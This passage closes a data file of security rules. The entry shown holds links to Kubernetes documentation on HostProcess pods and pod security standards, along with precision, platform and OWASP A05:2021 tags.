      "https://kubernetes.io/docs/tasks/configure-pod-container/create-hostprocess-pod/",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  }
];
